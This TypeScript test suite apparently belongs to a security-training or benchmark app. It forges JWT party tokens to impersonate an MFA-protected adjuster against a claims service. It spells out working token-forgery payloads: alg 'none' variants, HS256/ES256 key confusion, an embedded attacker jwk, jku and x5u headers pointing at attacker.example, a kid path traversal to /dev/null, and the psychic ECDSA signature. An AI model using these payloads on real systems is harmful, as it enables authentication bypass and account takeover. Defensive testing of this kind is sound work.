import { attack, type AttackSpec } from '../support/attack.js';
import {
  attackerKey,
  es256Jwt,
  gatewayPublishedKey,
  hs256Jwt,
  listClaimsWith,
  partyClaimsFor,
  psychicJwt,
  stolenWorkloadCertificate,
  unsignedJwt,
} from '../support/jwt-forgery.js';

/**
 * Forged party tokens — none needs the gateway's signing key, only what its JWKS publishes —
 * presented straight to claims from inside the network with the gateway's stolen certificate.
 * Each forges carol (an adjuster whose own login needs MFA) and reads the claim list as her.
 * With `jwt-alg` on claims pins ES256 and takes the key from the JWKS by `kid` only (401); with
 * it off claims verifies like a classic vulnerable library (libs/auth party-token/naive-jwt.verifier.ts).
 */
const spec = (id: string, title: string, cwe = 'CWE-347'): AttackSpec => ({
  id,
  title,
  defense: 'jwt-alg',
  owasp: 'API2:2023 Broken Authentication',
  cwe,
  asvs: 'V3.5.3',
  blocked: '401 AUTH.TOKEN_INVALID',
  gain: "claims serves carol's claims to the forged token: every id served is on the list carol sees through the gateway",
  auditedBy: 'claims',
  auditAction: 'token.rejected',
  // Forged as carol: the scoreboard credits whom the token names.
  attacker: 'carol',
});
const TYP = 'party+jwt';
/** The adjuster every forgery impersonates (her own sign-in needs MFA). */
const AS = 'carol';

attack(spec('API2-JWT-ALG-001', 'a party token with its signature stripped'), async () => {
  const { kid } = await gatewayPublishedKey();
  return listClaimsWith(unsignedJwt({ alg: 'ES256', typ: TYP, kid }, partyClaimsFor('carol')), AS);
});

for (const [n, alg] of [
  ['002', 'none'],
  ['003', 'None'],
  ['004', 'NONE'],
  ['005', 'nOnE'],
] as const) {
  attack(spec(`API2-JWT-ALG-${n}`, `an unsigned party token with alg "${alg}"`, 'CWE-327'), () =>
    listClaimsWith(unsignedJwt({ alg, typ: TYP }, partyClaimsFor('carol')), AS),
  );
}

attack(
  spec('API2-JWT-ALG-006', "HS256 keyed with the gateway's public key (ES/HS key confusion)"),
  async () => {
    const { kid, pem } = await gatewayPublishedKey();
    return listClaimsWith(
      hs256Jwt({ alg: 'HS256', typ: TYP, kid }, partyClaimsFor('carol'), pem),
      AS,
    );
  },
);

attack(spec('API2-JWT-ALG-007', "a token carrying the attacker's own key as jwk"), () => {
  const { privateKey, jwk } = attackerKey();
  const header = { alg: 'ES256', typ: TYP, kid: jwk.kid, jwk };
  return listClaimsWith(es256Jwt(header, partyClaimsFor('carol'), privateKey), AS);
});

attack(spec('API2-JWT-ALG-008', "a jku pointing at the attacker's JWKS", 'CWE-345'), () => {
  const { privateKey, jwk } = attackerKey();
  const jku = 'https://attacker.example/.well-known/jwks.json';
  const header = { alg: 'ES256', typ: TYP, kid: jwk.kid, jku, jwk };
  return listClaimsWith(es256Jwt(header, partyClaimsFor('carol'), privateKey), AS);
});

attack(spec('API2-JWT-ALG-009', "an x5u pointing at the attacker's certificate", 'CWE-345'), () => {
  const { x5c, privateKey } = stolenWorkloadCertificate();
  const header = { alg: 'ES256', typ: TYP, x5u: 'https://attacker.example/gateway.pem', x5c };
  return listClaimsWith(es256Jwt(header, partyClaimsFor('carol'), privateKey), AS);
});

attack(spec('API2-JWT-ALG-010', 'a kid injected to resolve to an empty HMAC key', 'CWE-22'), () =>
  listClaimsWith(
    hs256Jwt(
      { alg: 'HS256', typ: TYP, kid: '../../../../../../dev/null' },
      partyClaimsFor('carol'),
      '',
    ),
    AS,
  ),
);

attack(
  spec('API2-JWT-ALG-011', 'a psychic ECDSA signature r = s = 0 (CVE-2022-21449)'),
  async () => {
    const { kid } = await gatewayPublishedKey();
    return listClaimsWith(psychicJwt({ alg: 'ES256', typ: TYP, kid }, partyClaimsFor('carol')), AS);
  },
);
